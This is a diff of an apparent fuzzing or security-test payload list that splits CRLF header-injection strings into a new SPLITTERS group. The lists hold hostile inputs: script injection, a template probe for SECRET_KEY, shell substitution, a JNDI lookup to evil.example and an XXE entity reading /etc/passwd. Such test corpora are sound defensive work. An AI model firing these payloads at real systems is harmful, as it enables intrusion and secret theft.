@@ -21,8 +21,10 @@ SCRIPTS = [
     b"data:text/html,<script>attack()</script>",
     b'{{ "att"|add:"acked" }}{% debug %}{{ settings.SECRET_KEY }}',
     b"%(attack)s {attack} ${attack} $(attack) `attack`",
+]
+SPLITTERS = [
     b"\r\nX-Attack: 1\r\n\r\n<script>attack()</script>",
-    b"\nSet-Cookie: attack=1",
+    b"\nX-Attack: 1\nSet-Cookie: attack=1",
     b"\xc4\x8d\xc4\x8aX-Attack: 1",
 ]
 TARGETS = [
@@ -181,7 +183,7 @@ TREES = [
     [b'{"a":' * 500 + b"1" + b"}" * 500, b"${jndi:ldap://evil.example/a}"],
     [b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"],
 ]
-KINDS = [SCRIPTS, TARGETS, QUERIES_OF_DATABASES, WORDS, TEXTS]
+KINDS = [SCRIPTS, SPLITTERS, TARGETS, QUERIES_OF_DATABASES, WORDS, TEXTS]
 # these are tried less often
 KINDS += [*KINDS, SCRIPTS, SCRIPTS, NUMBERS, DAYS, FILES, *TREES]
 
